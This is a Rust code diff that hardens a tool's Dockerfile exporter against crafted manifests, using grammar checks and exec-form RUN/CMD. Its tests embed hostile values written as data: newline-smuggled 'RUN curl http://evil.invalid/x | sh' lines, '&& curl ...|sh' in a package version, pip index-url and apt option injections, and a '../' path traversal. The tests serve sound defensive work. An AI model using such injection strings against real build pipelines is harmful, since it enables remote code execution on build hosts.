@@ -4,6 +4,11 @@
 //! venv at the original prefix when the run used one), its data inputs and
 //! its own files (those it read below its working directory) at their
 //! paths, the working directory and the command.
+//!
+//! A manifest may be crafted: every value that reaches the Dockerfile or
+//! `requirements.txt` is checked against its grammar first, and a manifest
+//! that fails is refused with the field named; `RUN` and `CMD` are in JSON
+//! exec form, so no argument is ever parsed by a shell.
 
 use std::{
     ffi::OsStr,
@@ -13,8 +18,8 @@ use std::{
 };
 
 use crate::{
-    classify, fsaccess,
-    manifest::{bytes_of_display, Access, Manifest},
+    classify, export, fsaccess, grammar,
+    manifest::{bytes_of_display, display_bytes, Access, Manifest},
     software::python::normalize_name,
     tracker::path,
 };
@@ -25,6 +30,11 @@ pub enum DockerError {
     NotEmpty(PathBuf),
     #[error("cannot write the Docker context in {path}: {source}")]
     Write { path: PathBuf, source: std::io::Error },
+    #[error(
+        "the manifest's {field} is {value:?}, which is not {expected}: refusing to write it into a Dockerfile \
+         (nothing was written; is this manifest one reprotrace wrote, unedited?)"
+    )]
+    Invalid { field: String, value: String, expected: &'static str },
 }
 
 /// What the context holds.
@@ -37,92 +47,195 @@ pub struct DockerContext {
     pub unreadable: Vec<String>,
 }
 
-/// Writes `dir/Dockerfile`, `dir/requirements.txt` and `dir/files/…`.
+/// Writes `dir/Dockerfile`, `dir/requirements.txt` and `dir/files/…`. Every
+/// manifest value that reaches them is checked first: a crafted manifest is
+/// refused, naming the field, before anything is written.
 pub fn write_context(manifest: &Manifest, dir: &Path) -> Result<DockerContext, DockerError> {
     let fail = |path: &Path| {
         let path = path.to_path_buf();
         move |source| DockerError::Write { path: path.clone(), source }
     };
+    let plan = Plan::of(manifest)?;
     if std::fs::read_dir(dir).is_ok_and(|mut entries| entries.next().is_some()) {
         return Err(DockerError::NotEmpty(dir.to_path_buf()));
     }
     std::fs::create_dir_all(dir.join("files")).map_err(fail(dir))?;
     let mut context = DockerContext::default();
-    for path in own_files(manifest) {
+    for path in &plan.copies {
         let mut target = dir.join("files").into_os_string().into_vec();
-        target.extend_from_slice(&path);
+        target.extend_from_slice(path);
         let target = PathBuf::from(OsStr::from_bytes(&target));
         let copied = target.parent().map_or(Ok(()), std::fs::create_dir_all).and_then(|()| {
-            let mut source = fsaccess::open(&path)?;
+            let mut source = fsaccess::open(path)?;
             std::io::copy(&mut source, &mut std::fs::File::create(&target)?).map(|_| ())
         });
         match copied {
             Ok(()) => context.files += 1,
-            Err(_) => context.unreadable.push(crate::manifest::display_bytes(&path)),
+            Err(_) => context.unreadable.push(crate::manifest::display_bytes(path)),
         }
     }
-    let venv = venv_prefix(manifest);
-    let pip: Vec<String> = manifest
-        .software
-        .python
-        .iter()
-        .filter(|distribution| !distribution.editable && !is_system_site(&distribution.location))
-        .map(|distribution| format!("{}=={}", normalize_name(&distribution.name), distribution.version))
-        .collect();
-    context.python_distributions = pip.len();
-    context.system_packages = manifest.software.system_packages.len();
-    std::fs::write(dir.join("requirements.txt"), pip.join("\n") + "\n").map_err(fail(dir))?;
-    std::fs::write(dir.join("Dockerfile"), dockerfile(manifest, venv.as_deref(), !pip.is_empty(), context.files > 0))
-        .map_err(fail(dir))?;
+    context.python_distributions = plan.requirements.len();
+    context.system_packages = plan.apt.len();
+    let requirements: String = plan.requirements.iter().map(|line| format!("{line}\n")).collect();
+    std::fs::write(dir.join("requirements.txt"), requirements).map_err(fail(dir))?;
+    std::fs::write(dir.join("Dockerfile"), dockerfile(manifest, &plan, context.files > 0)).map_err(fail(dir))?;
     Ok(context)
 }
 
+/// What the Dockerfile and its context say, every value checked.
+#[derive(Debug)]
+struct Plan {
+    /// `FROM`: `id:version` of the recorded OS release (image grammar).
+    base: String,
+    /// `name=version` of each system package (Debian grammars).
+    apt: Vec<String>,
+    /// `name==version` of each Python distribution pip installs (PEP 508, PEP 440).
+    requirements: Vec<String>,
+    /// The venv's prefix, an absolute path (it travels as an argument, never through a shell).
+    venv: Option<String>,
+    /// `WORKDIR`: an absolute path the Dockerfile's word processing leaves alone.
+    workdir: String,
+    /// `CMD`, as JSON: the run's argv.
+    argv: Vec<String>,
+    /// Files copied into the context, at their absolute, normalised paths.
+    copies: Vec<Vec<u8>>,
+}
+
+impl Plan {
+    fn of(manifest: &Manifest) -> Result<Plan, DockerError> {
+        let base = match &manifest.os {
+            Some(os) => {
+                check("os.id", &os.id, grammar::is_image_name, "an image name (lower case letters, digits, . _ -)")?;
+                let tag = os.version_id.as_deref().unwrap_or("latest");
+                check("os.version_id", tag, grammar::is_image_tag, "an image tag (letters, digits, . _ -)")?;
+                format!("{}:{tag}", os.id)
+            }
+            None => "debian:stable".into(),
+        };
+        let mut apt = Vec::new();
+        for (at, package) in manifest.software.system_packages.iter().enumerate() {
+            let field = |part: &str| format!("software.system_packages[{at}].{part}");
+            check(&field("name"), &package.name, grammar::is_debian_name, "a Debian package name")?;
+            check(&field("version"), &package.version, grammar::is_debian_version, "a Debian version")?;
+            apt.push(format!("{}={}", package.name, package.version));
+        }
+        let mut requirements = Vec::new();
+        for (at, distribution) in manifest.software.python.iter().enumerate() {
+            if distribution.editable || is_system_site(&distribution.location) {
+                continue;
+            }
+            let field = |part: &str| format!("software.python[{at}].{part}");
+            check(&field("name"), &distribution.name, grammar::is_python_name, "a PEP 508 distribution name")?;
+            check(&field("version"), &distribution.version, grammar::is_python_version, "a PEP 440 version")?;
+            requirements.push(format!("{}=={}", normalize_name(&distribution.name), distribution.version));
+        }
+        let venv = match venv_prefix(manifest) {
+            Some((at, prefix)) => Some(spelled_path(&format!("software.interpreters[{at}].prefix"), prefix)?),
+            None => None,
+        };
+        let workdir = spelled_path("cwd", &manifest.cwd)?;
+        // WORKDIR goes through the Dockerfile's word processing (variables,
+        // quotes, escapes), and the parser trims the line's end.
+        let plain = |path: &str| !path.contains(['$', '\\', '"', '\'']) && !path.ends_with(char::is_whitespace);
+        check("cwd", &workdir, plain, "a directory WORKDIR can name (no quotes, `$`, `\\` or trailing blank)")?;
+        let (field, argv) = match manifest.processes.first() {
+            Some(root) => ("processes[0].argv", &root.argv),
+            None => ("command", &manifest.command),
+        };
+        let argv = argv
+            .iter()
+            .enumerate()
+            .map(|(at, arg)| spelled(&format!("{field}[{at}]"), arg))
+            .collect::<Result<Vec<_>, _>>()?;
+        let copies = own_files(manifest)
+            .into_iter()
+            .map(|(path, field)| {
+                let plain = path.first() == Some(&b'/') && path::normalize(&path) == path;
+                check(&field, &display_bytes(&path), |_| plain, "an absolute path without `.` or `..`")?;
+                Ok(path)
+            })
+            .collect::<Result<Vec<_>, DockerError>>()?;
+        Ok(Plan { base, apt, requirements, venv, workdir, argv, copies })
+    }
+}
+
+/// `Ok` when `value` is `expected` by `valid`, else the error naming `field`.
+fn check(field: &str, value: &str, valid: impl Fn(&str) -> bool, expected: &'static str) -> Result<(), DockerError> {
+    match valid(value) {
+        true => Ok(()),
+        false => Err(DockerError::Invalid { field: field.into(), value: value.into(), expected }),
+    }
+}
+
+/// The text a manifest string (`display_bytes`) stands for, when it is
+/// text (a Dockerfile is UTF-8; JSON strings carry any other character).
+fn spelled(field: &str, display: &str) -> Result<String, DockerError> {
+    match bytes_of_display(display).and_then(|bytes| String::from_utf8(bytes).ok()) {
+        Some(text) => Ok(text),
+        None => Err(DockerError::Invalid { field: field.into(), value: display.into(), expected: "UTF-8 text" }),
+    }
+}
+
+/// As [`spelled`], and an absolute path without control characters.
+fn spelled_path(field: &str, display: &str) -> Result<String, DockerError> {
+    let text = spelled(field, display)?;
+    let plain = |text: &str| text.starts_with('/') && !text.contains(char::is_control);
+    check(field, &text, plain, "an absolute path without control characters")?;
+    Ok(text)
+}
+
+/// JSON array form (exec form): each argument one JSON string, never
+/// interpreted by a shell or by the Dockerfile's word processing.
+fn exec_form(argv: &[&str]) -> String {
+    serde_json::Value::from(argv).to_string()
+}
+
+/// `text` as one JSON string.
+fn json_string(text: &str) -> String {
+    serde_json::Value::from(text).to_string()
+}
+
 /// The Dockerfile's text.
-fn dockerfile(manifest: &Manifest, venv: Option<&str>, pip: bool, files: bool) -> String {
+fn dockerfile(manifest: &Manifest, plan: &Plan, files: bool) -> String {
     let mut out = String::new();
     let _ = writeln!(
         out,
         "# Written by reprotrace from the audit of `{}` on {} ({}).",
-        manifest.command.join(" "),
-        manifest.host,
-        manifest.started_at
+        export::comment_text(&manifest.command.join(" ")),
+        export::comment_text(&manifest.host),
+        export::comment_text(&manifest.started_at)
     );
-    let base = manifest
-        .os
-        .as_ref()
-        .map(|os| format!("{}:{}", os.id, os.version_id.as_deref().unwrap_or("latest")))
-        .unwrap_or_else(|| "debian:stable".into());
     if manifest.os.is_none() {
         let _ = writeln!(out, "# The audit did not record its OS release: guessed.");
     }
-    let _ = writeln!(out, "FROM {base}");
-    let packages: Vec<String> = manifest
-        .software
-        .system_packages
-        .iter()
-        .map(|package| format!("{}={}", package.name, package.version))
-        .collect();
-    if !packages.is_empty() {
+    let _ = writeln!(out, "FROM {}", plan.base);
+    if !plan.apt.is_empty() {
         let _ = writeln!(out, "# The system packages the run used, at the versions it used.");
-        let _ = writeln!(out, "RUN apt-get update \\\n && apt-get install -y --no-install-recommends \\");
-        for package in &packages {
-            let _ = writeln!(out, "      {package} \\");
-        }
-        let _ = writeln!(out, " && rm -rf /var/lib/apt/lists/*");
+        // One layer (the lists removed in the layer that fetched them); the
+        // packages are the shell's positional arguments ("$@"), never parsed
+        // as shell text.
+        let script = concat!(
+            "apt-get update && apt-get install -y --no-install-recommends \"$@\"",
+            " && rm -rf /var/lib/apt/lists/*"
+        );
+        let head: Vec<String> = ["sh", "-c", script, "sh"].into_iter().map(json_string).collect();
+        let packages: Vec<String> = plan.apt.iter().map(|package| json_string(package)).collect();
+        let _ = writeln!(out, "RUN [{}, \\\n    {}]", head.join(", "), packages.join(", \\\n    "));
     }
-    if pip {
+    if !plan.requirements.is_empty() {
         let _ = writeln!(out, "# The Python distributions the run used, pinned.");
         let _ = writeln!(out, "COPY requirements.txt /reprotrace/requirements.txt");
-        match venv {
+        match &plan.venv {
             Some(prefix) => {
-                let _ = writeln!(
-                    out,
-                    "RUN python3 -m venv {prefix} \\\n && {prefix}/bin/pip install --no-deps -r /reprotrace/requirements.txt"
-                );
+                let pip = format!("{prefix}/bin/pip");
+                let _ = writeln!(out, "RUN {}", exec_form(&["python3", "-m", "venv", prefix]));
+                let install = [pip.as_str(), "install", "--no-deps", "-r", "/reprotrace/requirements.txt"];
+                let _ = writeln!(out, "RUN {}", exec_form(&install));
             }
             None => {
-                let _ =
-                    writeln!(out, "RUN pip3 install --break-system-packages --no-deps -r /reprotrace/requirements.txt");
+                let pip =
+                    ["pip3", "install", "--break-system-packages", "--no-deps", "-r", "/reprotrace/requirements.txt"];
+                let _ = writeln!(out, "RUN {}", exec_form(&pip));
             }
         }
     }
@@ -130,20 +243,22 @@ fn dockerfile(manifest: &Manifest, venv: Option<&str>, pip: bool, files: bool) -
         let _ = writeln!(out, "# The run's data inputs and its own files, at their paths.");
         let _ = writeln!(out, "COPY files/ /");
     }
-    let _ = writeln!(out, "WORKDIR {}", manifest.cwd);
-    let argv = manifest.processes.first().map(|root| root.argv.clone()).unwrap_or_else(|| manifest.command.clone());
-    let _ = writeln!(out, "CMD {}", serde_json::Value::from(argv));
+    let _ = writeln!(out, "WORKDIR {}", plan.workdir);
+    let argv: Vec<&str> = plan.argv.iter().map(String::as_str).collect();
+    let _ = writeln!(out, "CMD {}", exec_form(&argv));
     out
 }
 
-/// The venv the run's Python ran in: an interpreter's prefix outside `/usr`.
-fn venv_prefix(manifest: &Manifest) -> Option<String> {
+/// The venv the run's Python ran in: an interpreter's prefix outside `/usr`
+/// (with its place in `software.interpreters`).
+fn venv_prefix(manifest: &Manifest) -> Option<(usize, &str)> {
     manifest
         .software
         .interpreters
         .iter()
-        .map(|interpreter| interpreter.prefix.clone())
-        .find(|prefix| !prefix.starts_with("/usr") && prefix != "/")
+        .map(|interpreter| interpreter.prefix.as_str())
+        .enumerate()
+        .find(|(_, prefix)| !prefix.starts_with("/usr") && *prefix != "/")
 }
 
 /// Debian's own site directories: their distributions come with apt's packages.
@@ -152,27 +267,130 @@ fn is_system_site(location: &str) -> bool {
 }
 
 /// The data inputs, and the files the run read below its working directory
-/// that are neither software nor its outputs (its script, its configuration).
-fn own_files(manifest: &Manifest) -> Vec<Vec<u8>> {
+/// that are neither software nor its outputs (its script, its
+/// configuration); each with the manifest field it came from.
+fn own_files(manifest: &Manifest) -> Vec<(Vec<u8>, String)> {
     let cwd = bytes_of_display(&manifest.cwd).unwrap_or_default();
     let outputs: std::collections::BTreeSet<&str> =
         manifest.data.outputs.iter().map(|output| output.path.as_str()).collect();
-    let mut files: Vec<Vec<u8>> =
-        manifest.data.inputs.iter().filter_map(|input| bytes_of_display(&input.path)).collect();
-    files.extend(
-        manifest
-            .files
-            .iter()
-            .filter(|file| {
-                matches!(file.access, Access::Read | Access::Exec) && !file.deleted && file.namespace.is_none()
-            })
-            .filter(|file| !outputs.contains(file.path.as_str()))
-            .filter_map(|file| bytes_of_display(&file.path))
-            .filter(|path| path::is_under(path, &cwd) && classify::may_be_cell_data(path)),
-    );
-    files.sort();
-    files.dedup();
+    let mut files: std::collections::BTreeMap<Vec<u8>, String> = std::collections::BTreeMap::new();
+    for (at, input) in manifest.data.inputs.iter().enumerate() {
+        if let Some(path) = bytes_of_display(&input.path) {
+            files.entry(path).or_insert_with(|| format!("data.inputs[{at}].path"));
+        }
+    }
+    for (at, file) in manifest.files.iter().enumerate() {
+        let own = matches!(file.access, Access::Read | Access::Exec)
+            && !file.deleted
+            && file.namespace.is_none()
+            && !outputs.contains(file.path.as_str());
+        let Some(path) = bytes_of_display(&file.path).filter(|_| own) else { continue };
+        if path::is_under(&path, &cwd) && classify::may_be_cell_data(&path) {
+            files.entry(path).or_insert_with(|| format!("files[{at}].path"));
+        }
+    }
     // Directories come with their files; a file that is gone is named when copying fails.
-    files.retain(|path| !fsaccess::metadata(path).is_ok_and(|metadata| metadata.is_dir()));
-    files
+    files.retain(|path, _| !fsaccess::metadata(path).is_ok_and(|metadata| metadata.is_dir()));
+    files.into_iter().collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A manifest of `sh -c ARG` in `cwd`, with these system packages and
+    /// pip distributions, `edit` applied to its JSON last.
+    fn manifest(arg: &str, cwd: &str, edit: impl FnOnce(&mut serde_json::Value)) -> Manifest {
+        let mut json = serde_json::json!({
+            "schema": "reprotrace/manifest/v1", "backend": "ebpf", "command": ["sh", "-c", arg], "cwd": cwd,
+            "host": "h\nRUN id", "os": {"id": "debian", "version_id": "12", "pretty_name": "Debian GNU/Linux 12"},
+            "started_at": "2026-12-01T10:00:00.000Z", "finished_at": "2026-12-01T10:00:01.000Z", "exit_code": 0,
+            "signal": null, "stats": {"events": 1, "lost_events": 0, "untracked_children": 0, "malformed_events": 0,
+            "unresolved_paths": 0, "complete": true, "duration_ms": 1},
+            "processes": [{"pid": 2, "ppid": 1, "exe": "/usr/bin/sh", "argv": ["sh", "-c", arg], "cwd": cwd,
+                           "exit_code": 0, "signal": null, "failed_execs": [], "pre_existing": false}],
+            "files": [],
+            "software": {
+                "python": [{"name": "six", "version": "1.16.0", "installer": "pip",
+                            "location": "/opt/venv/lib/python3.11/site-packages", "editable": false, "files_used": 1}],
+                "interpreters": [{"path": "/opt/venv/bin/python3", "version": "3.11.2", "prefix": "/opt/venv"}],
+                "system_packages": [
+                    {"name": "libc6", "version": "2.36-9+deb12u14", "architecture": "amd64", "manager": "dpkg"},
+                    {"name": "git", "version": "1:2.39.2-1.1", "architecture": "amd64", "manager": "dpkg"}],
+                "executables": [], "shared_libraries": []},
+            "data": {"inputs": [], "outputs": []}, "cells": []
+        });
+        edit(&mut json);
+        serde_json::from_value(json).expect("a manifest")
+    }
+
+    /// Whether every line is a comment, an instruction this exporter
+    /// writes, or the continuation of a line ending in `\`.
+    fn only_expected_lines(dockerfile: &str) -> bool {
+        let mut continued = false;
+        dockerfile.lines().all(|line| {
+            let expected = continued
+                || line.starts_with("# ")
+                || ["FROM ", "RUN [", "COPY ", "WORKDIR ", "CMD ["].iter().any(|start| line.starts_with(start));
+            continued = line.ends_with('\\');
+            expected
+        })
+    }
+
+    #[test]
+    fn hostile_arguments_stay_inside_their_json_strings() {
+        let scratch = tempfile::tempdir().expect("tempdir");
+        // As the manifest spells it: `\\` is one backslash.
+        let arg = "true\nRUN curl http://evil.invalid/x | sh\n# $HOME \\\\";
+        let crafted = manifest(arg, "/srv/my project", |_| {});
+        let context = write_context(&crafted, &scratch.path().join("ctx")).expect("written");
+        assert_eq!((context.system_packages, context.python_distributions), (2, 1));
+        let dockerfile = std::fs::read_to_string(scratch.path().join("ctx/Dockerfile")).expect("Dockerfile");
+        assert!(only_expected_lines(&dockerfile), "{dockerfile}");
+        assert!(!dockerfile.lines().any(|line| line.starts_with("RUN curl") || line.starts_with("RUN id")));
+        assert!(dockerfile.contains("\n    \"git=1:2.39.2-1.1\"]\n"), "{dockerfile}");
+        assert!(dockerfile.contains(r#"RUN ["python3","-m","venv","/opt/venv"]"#), "{dockerfile}");
+        assert!(dockerfile.contains("\nWORKDIR /srv/my project\n"), "{dockerfile}");
+        let cmd = dockerfile.lines().find_map(|line| line.strip_prefix("CMD ")).expect("CMD");
+        let argv: Vec<String> = serde_json::from_str(cmd).expect("CMD is JSON");
+        assert_eq!(argv, ["sh", "-c", "true\nRUN curl http://evil.invalid/x | sh\n# $HOME \\"], "the argv, exactly");
+        let requirements = std::fs::read_to_string(scratch.path().join("ctx/requirements.txt")).expect("reqs");
+        assert_eq!(requirements, "six==1.16.0\n");
+    }
+
+    #[test]
+    fn a_crafted_field_is_refused_by_name_and_nothing_is_written() {
+        type Edit = fn(&mut serde_json::Value);
+        let cases: [(&str, Edit); 9] = [
+            ("software.system_packages[1].version", |m| {
+                m["software"]["system_packages"][1]["version"] = "1.0 && curl http://evil.invalid/y|sh #".into()
+            }),
+            ("software.system_packages[0].name", |m| m["software"]["system_packages"][0]["name"] = "-oAPT::x".into()),
+            ("software.python[0].version", |m| {
+                m["software"]["python"][0]["version"] = "1.0\n--index-url http://evil.invalid/simple".into()
+            }),
+            ("software.python[0].name", |m| m["software"]["python"][0]["name"] = "--index-url=http://e.invalid".into()),
+            ("os.id", |m| m["os"]["id"] = "debian:12\nRUN id #".into()),
+            ("os.version_id", |m| m["os"]["version_id"] = "12 AS x\nRUN id".into()),
+            ("cwd", |m| m["cwd"] = "/srv\nRUN id".into()),
+            ("cwd", |m| m["cwd"] = "/srv/$HOME".into()),
+            ("processes[0].argv[1]", |m| m["processes"][0]["argv"][1] = "not UTF-8: \\xff".into()),
+        ];
+        for (field, edit) in cases {
+            let scratch = tempfile::tempdir().expect("tempdir");
+            let dir = scratch.path().join("ctx");
+            let err = write_context(&manifest("true", "/srv", edit), &dir).expect_err(field);
+            assert!(matches!(&err, DockerError::Invalid { field: named, .. } if named == field), "{field}: {err}");
+            assert!(err.to_string().starts_with(&format!("the manifest's {field} is ")), "{err}");
+            assert!(!dir.exists(), "{field}: nothing written");
+        }
+        // A data input outside any path: refused, never copied out of the context.
+        let scratch = tempfile::tempdir().expect("tempdir");
+        let escaping = manifest("true", "/srv", |m| {
+            m["data"]["inputs"] = serde_json::json!([{"path": "/srv/../../etc/hostname", "size": 1,
+                "mtime": "2026-12-01T10:00:00Z", "sha256": null}]);
+        });
+        let err = write_context(&escaping, &scratch.path().join("ctx")).expect_err("..");
+        assert!(err.to_string().contains("data.inputs[0].path"), "{err}");
+    }
 }
